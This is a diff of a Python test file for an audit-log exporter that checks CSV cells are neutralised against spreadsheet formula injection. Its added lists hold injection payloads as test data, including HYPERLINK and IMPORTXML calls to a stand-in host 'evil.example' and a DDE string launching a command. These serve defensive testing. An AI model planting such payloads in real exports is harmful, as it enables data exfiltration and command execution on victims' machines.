@@ -9,16 +9,19 @@ import resource
 import stat
 import unicodedata
 from collections.abc import AsyncIterator, Sequence
+from dataclasses import replace
 from pathlib import Path
 
 import pytest
 from hypothesis import example, given
 from hypothesis import strategies as st
 
+from tests.conftest import SoakScale
 from tui.interchange.audit_export import COLUMNS, Format, cell, csv_header, csv_rows, export, json_rows
 from tui.model.audit import AuditAction, AuditEvent, AuditResult
 from tui.model.errors import Denied, Unreachable, VaultError
 from tui.model.ids import AccountId, ItemId, ItemRef, VaultId
+from tui.services.audit_merge import merged
 
 # Texts made of what makes cells dangerous, among anything else.
 RISKY = st.lists(
@@ -45,6 +48,12 @@ EVENTS = st.builds(
     field=TEXT,
     detail=TEXT,
     serial=st.integers(0, 2**53),
+    id=TEXT,
+    word=TEXT,
+    ip=TEXT,
+    client=TEXT,
+    source=TEXT,
+    raw=st.lists(st.tuples(TEXT, TEXT), max_size=3).map(tuple),
 )
 UNSEEN = " \t\r\n\xa0\u3000\u200b\ufeff\x00"
 
@@ -67,12 +76,13 @@ def test_no_cell_is_a_formula_whatever_separator_the_spreadsheet_prefers(events:
 @given(st.lists(EVENTS, max_size=4))
 def test_csv_has_a_row_for_each_event_and_nothing_else(events: list[AuditEvent]) -> None:
     text = csv_header() + csv_rows(events)
-    rows = list(csv.reader(text.encode("utf-8").decode("utf-8").split("\r\n")[:-1], strict=True))
+    rows = list(csv.reader(text.encode("utf-8").decode("utf-8-sig").split("\r\n")[:-1], strict=True))
     assert rows[0] == list(COLUMNS)
     assert len(rows) == 1 + len(events)
     for row, event in zip(rows[1:], events, strict=True):
         assert len(row) == len(COLUMNS)
-        assert row[2:4] == [event.action, event.result]
+        assert row[3] == event.result
+        assert row[2] == (event.action if event.action is not AuditAction.OTHER or not event.word else cell(event.word))
 
 
 @pytest.mark.parametrize(
@@ -113,6 +123,12 @@ def test_json_lines_give_back_every_event_exactly(events: list[AuditEvent]) -> N
                 ref,
                 *names,
                 row["serial"],
+                row["id"],
+                row["word"],
+                row["ip"],
+                row["client"],
+                row["log"],
+                tuple((name, text) for name, text in row["raw"]),
             )
         )
     assert back == events
@@ -147,7 +163,9 @@ async def test_a_file_is_written_page_by_page_for_its_owner_alone(tmp_path: Path
 async def test_csv_begins_with_the_names_of_the_columns(tmp_path: Path) -> None:
     path = tmp_path / "audit.csv"
     assert await export(path, Format.CSV, pages()) == 0
-    assert path.read_bytes() == b'"time","who","action","result","item","vault","field","detail"\r\n'
+    content = path.read_bytes()
+    assert content.startswith(b'\xef\xbb\xbf"time","who","action","result","item","vault","field","detail","ip",')
+    assert content.endswith(b'"also told"\r\n')
 
 
 async def test_a_file_that_is_there_is_left_alone(tmp_path: Path) -> None:
@@ -193,3 +211,75 @@ async def test_a_disk_that_ends_is_told_and_nothing_is_left(tmp_path: Path) -> N
     finally:
         resource.setrlimit(resource.RLIMIT_FSIZE, (soft, hard))
     assert not path.exists()
+
+
+# A whole log of hostile events
+
+BEGINNINGS = (
+    "=",
+    "+",
+    "-",
+    "@",
+    "\t",
+    "\r",
+    "\n",
+    "\t=",
+    "\r\n=",
+    " =",
+    "\uff1d",
+    "\uff0b",
+    "\uff0d",
+    "\uff20",
+    "\u2212",
+)
+FORMULAS = (
+    'HYPERLINK("http://evil.example","x")',
+    "cmd|'/c calc'!A1",
+    "1+1",
+    'SUM(1;2)";=1+1',
+    "x,=1+1",
+    "x;=1+1\t=2",
+    'IMPORTXML("http://evil.example")\r\n=1+1',
+    "\u202e=1",
+    "\u200b=1",
+    "\ufeff=1",
+    '"',
+    '""=1',
+    "'=1",
+    "a\x00b",
+)
+
+
+def hostile(number: int) -> AuditEvent:
+    """Return an event every text of which means the spreadsheet."""
+    text = f"{BEGINNINGS[number % len(BEGINNINGS)]}{FORMULAS[number % len(FORMULAS)]}{number}"
+    ref = ItemRef(AccountId(text), VaultId(text), ItemId(text))
+    event = AuditEvent(1795350183.0 - number, text, AuditAction.OTHER, AuditResult.UNTOLD, ref, text, text, text, text)
+    return replace(event, id=text, word=text, ip=text, client=text, source=text, raw=((text, text), ("a", text)))
+
+
+async def spoken(events: Sequence[AuditEvent]) -> AsyncIterator[Sequence[AuditEvent]]:
+    for begin in range(0, len(events), 500):
+        yield events[begin : begin + 500]
+
+
+async def test_a_merged_log_of_fifty_thousand_hostile_events_is_read_back_equal_and_no_cell_is_a_formula(
+    tmp_path: Path, soak_scale: SoakScale
+) -> None:
+    events = soak_scale(50_000)
+    logs = [[hostile(number) for number in range(first, events, 3)] for first in range(3)]
+
+    def troubled(error: VaultError) -> None:
+        raise error
+
+    path = tmp_path / "audit.csv"
+    assert await export(path, Format.CSV, merged([(spoken(log), troubled) for log in logs])) == events
+    with path.open(encoding="utf-8-sig", newline="") as file:
+        table = list(csv.reader(file, strict=True))
+    assert len(table) == events + 1
+    assert table[0] == list(COLUMNS)
+    for number, row in enumerate(table[1:]):
+        text = cell(hostile(number).actor)
+        assert row[1] == row[2] == row[4] == row[8] == row[11] == row[15] == text
+        assert len(row) == len(COLUMNS)
+        assert not any(begins_formula(one) or one.startswith(("\t", "\r")) for one in row)
